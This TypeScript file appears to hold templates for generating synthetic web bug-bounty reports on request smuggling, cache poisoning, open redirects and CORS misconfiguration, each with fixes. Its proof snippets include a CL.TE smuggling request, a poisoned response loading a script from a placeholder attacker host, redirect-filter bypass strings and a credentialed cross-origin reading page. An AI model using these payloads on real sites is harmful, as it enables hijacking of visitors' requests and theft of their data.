import type { VulnerabilityClass } from './vulnerability-class.ts'

const requestSmuggling: VulnerabilityClass = {
  key: 'request-smuggling',
  type: 'HTTP request smuggling',
  cwe: 444,
  weight: 2,
  surfaces: ['web', 'api', 'infrastructure'],
  shape: 'takeover',
  severities: [
    ['Critical', 2],
    ['High', 6],
    ['Medium', 1],
  ],
  places: [
    { method: 'POST', path: '/', parameter: 'Transfer-Encoding', detail: 'CL.TE' },
    { method: 'POST', path: '/login', parameter: 'Transfer-Encoding', detail: 'TE.TE with a tab' },
    { method: 'POST', path: '«api»/ping', parameter: 'content-length', detail: 'H2.CL' },
  ],
  titles: [
    'HTTP request smuggling («detail») on «host» captures requests of others',
    '«Detail» desync between the edge and «framework»',
    'Request smuggling via `«parameter»`, front end and back end disagree',
  ],
  summaries: [
    'Edge and backend of «host» disagree about where a request ends («detail»). What I put behind it becomes the beginning of the next visitor’s request.',
    'With «detail» a second request can be hidden inside the first one. I proved it against my own connections only.',
  ],
  steps: [
    [
      'Send the request below twice on connections of your own.',
      'The second, perfectly normal one gets the 404 of `/«handle»`.',
      'Repeat: nine of ten times the same. I stopped after that, because other visitors may be hit.',
    ],
  ],
  proofs: [
    [
      {
        say: 'Raw, with CRLF at the ends of lines:',
        lang: 'http',
        code: `«method» «path» HTTP/1.1
Host: «host»
Content-Type: application/x-www-form-urlencoded
Content-Length: 39
Transfer-Encoding: chunked

0

GET /«handle» HTTP/1.1
X-Ignore: x`,
      },
      {
        say: 'Answers on two connections:',
        lang: 'text',
        code: '1  POST «path»   200  «server»\n2  GET /         404  {"path":"/«handle»"}      <- mine was asked for by the second',
      },
    ],
  ],
  impacts: [
    'Requests of other visitors can be captured with their cookies, or answered with a page of the attacker.',
    'All access rules at the edge are void, and the cache can be filled with wrong answers for everybody.',
  ],
  fixes: ['Speak HTTP/2 to the backend, and refuse requests with both headers.'],
  notes: ['Tested at 04:00 on the canary, desync is real. Vendor case is open; edge normalises since 05:10.'],
}

const cachePoisoning: VulnerabilityClass = {
  key: 'cache-poisoning',
  type: 'Web cache poisoning and deception',
  cwe: 349,
  weight: 3,
  surfaces: ['web', 'infrastructure'],
  shape: 'script',
  severities: [
    ['High', 4],
    ['Medium', 5],
  ],
  places: [
    { path: '/home/x.css', parameter: 'path', detail: 'cache deception' },
    { path: '/', parameter: 'X-Forwarded-Scheme', detail: 'an unkeyed header' },
    { path: '/assets/config.js', parameter: 'cb', detail: 'an unkeyed parameter' },
    { path: '/«segment»/account;.js', parameter: 'path', detail: 'cache deception with a semicolon' },
  ],
  titles: [
    'Web cache poisoning on «host» with «detail»',
    'Cache deception: «path» stores the page of the victim for everybody',
    'Unkeyed `«parameter»` poisons «path» for all visitors',
  ],
  summaries: [
    'The cache does not take `«parameter»` into account, the application does («detail»). One request of mine decides what everybody gets for the next five minutes.',
    'An address such as `«path»` is taken for a static file and kept, although the application answers with the page of the signed-in user.',
  ],
  steps: [
    [
      'Use a cache buster of your own (`?cb=«handle»`), as I did, so that nobody else is touched.',
      'Send the request below until `x-cache: miss` is seen.',
      'Ask for the same address without the header: `x-cache: hit`, with my content.',
    ],
  ],
  proofs: [
    [
      {
        say: 'Poison, then a normal visitor:',
        lang: 'http',
        code: `GET «path»?cb=«handle» HTTP/1.1
Host: «host»
X-Forwarded-Host: «attacker»

HTTP/1.1 200 OK
X-Cache: miss

GET «path»?cb=«handle» HTTP/1.1
Host: «host»

HTTP/1.1 200 OK
X-Cache: hit
Age: 14

<script src="https://«attacker»/bundle.js"></script>`,
      },
    ],
  ],
  impacts: [
    'A script of the attacker on the start page for every visitor, until the entry expires, and again after that.',
    'Pages with «secrets» of signed-in people end up in a shared cache and can be fetched without a cookie.',
  ],
  fixes: [
    'Take the header into the cache key or drop it, and send `Cache-Control: no-store` with personal pages.',
  ],
  notes: [
    'Reproduced with a buster. CDN rule "cache everything with .css/.js" is the cause; marketing wanted it in 2022.',
  ],
}

const openRedirect: VulnerabilityClass = {
  key: 'open-redirect',
  type: 'Open redirect',
  cwe: 601,
  weight: 5,
  surfaces: ['web', 'mobile'],
  shape: 'click',
  severities: [
    ['Medium', 3],
    ['Low', 7],
  ],
  places: [
    { path: '/login', parameter: 'next' },
    { path: '/out', parameter: 'url' },
    { path: '/logout', parameter: 'returnTo' },
    { path: '/email/track', parameter: 'u' },
  ],
  titles: [
    'Open redirect on «host»«path» through `«parameter»`',
    'Unvalidated redirect: `«parameter»=//«attacker»`',
    'Open redirect with a backslash at «path»',
    'Redirect filter of «path» bypassed with `@`',
  ],
  summaries: [
    '`«path»` sends visitors to whatever `«parameter»` says. Addresses with two slashes at the beginning pass the check.',
    'The check of `«parameter»` looks for "starts with /", and `/\\«attacker»` does. Browsers read it as another host.',
  ],
  steps: [['Open `https://«host»«path»?«parameter»=/\\«attacker»`.', 'You are on «attacker».']],
  proofs: [
    [
      {
        say: 'Check:',
        lang: 'bash',
        code: `$ curl -si 'https://«host»«path»?«parameter»=/%5C«attacker»' | grep -i ^location
location: /\\«attacker»`,
      },
    ],
    [
      {
        say: 'Variants that pass:',
        lang: 'text',
        code: `//«attacker»
/\\«attacker»
https:«attacker»
https://«host»@«attacker»
/%09/«attacker»`,
      },
    ],
  ],
  impacts: [
    'Phishing from the real domain: people look at the beginning of a link only.',
    'Together with the sign-in flow it leaks tokens, which I will report on its own if I get it to work.',
  ],
  fixes: ['Parse the address and compare the host, or allow paths only.'],
  notes: ['Works. Not on the OAuth allow list, so no chain. Low as in our table.'],
}

const crossOrigin: VulnerabilityClass = {
  key: 'cross-origin',
  type: 'Cross-origin policy',
  cwe: 942,
  weight: 4,
  surfaces: ['api', 'web'],
  shape: 'click',
  severities: [
    ['High', 3],
    ['Medium', 5],
    ['Low', 2],
  ],
  places: [
    { path: '«api»/me', parameter: 'Origin', detail: 'any origin is reflected' },
    { path: '«collection»', parameter: 'Origin', detail: '`null` is allowed' },
    { path: '«api»/tokens', parameter: 'Origin', detail: 'a suffix is enough' },
  ],
  titles: [
    'CORS on «host»: «detail» and credentials are allowed',
    'CORS misconfiguration at «path» lets any site read «many»',
    'Any website can read `«path»` of a signed-in «customer»',
  ],
  summaries: [
    '«Detail», together with `Access-Control-Allow-Credentials: true`. A page of mine reads `«path»` in the name of its visitor.',
    'The answer of `«path»` may be read by foreign pages, since «detail».',
  ],
  steps: [
    ['Sign in to «host».', 'Open the page below from another origin.', 'The data is printed on that page.'],
  ],
  proofs: [
    [
      {
        say: 'Headers:',
        lang: 'http',
        code: `GET «path» HTTP/2
Host: «host»
Origin: https://«domain».«attacker»
Cookie: «cookieName»=«otherSession»

HTTP/2 200
Access-Control-Allow-Origin: https://«domain».«attacker»
Access-Control-Allow-Credentials: true
Content-Type: application/json`,
      },
    ],
    [
      {
        say: 'The page:',
        lang: 'html',
        code: `<pre id="out"></pre>
<script type="module">
  const answer = await fetch('https://«host»«path»', { credentials: 'include' })
  out.textContent = await answer.text()
</script>`,
      },
    ],
  ],
  impacts: [
    'Every site that a signed-in «customer» visits can read «secrets».',
    'Reading API tokens this way is as good as the password.',
  ],
  fixes: ['Compare the origin with a list, as a whole.'],
  notes: [
    'Header is there, cookie is SameSite=Lax however, so nothing is sent along by fetch. Works from sibling subdomains only. Medium.',
  ],
}

export const httpBehaviourClasses: readonly VulnerabilityClass[] = [
  requestSmuggling,
  cachePoisoning,
  openRedirect,
  crossOrigin,
]
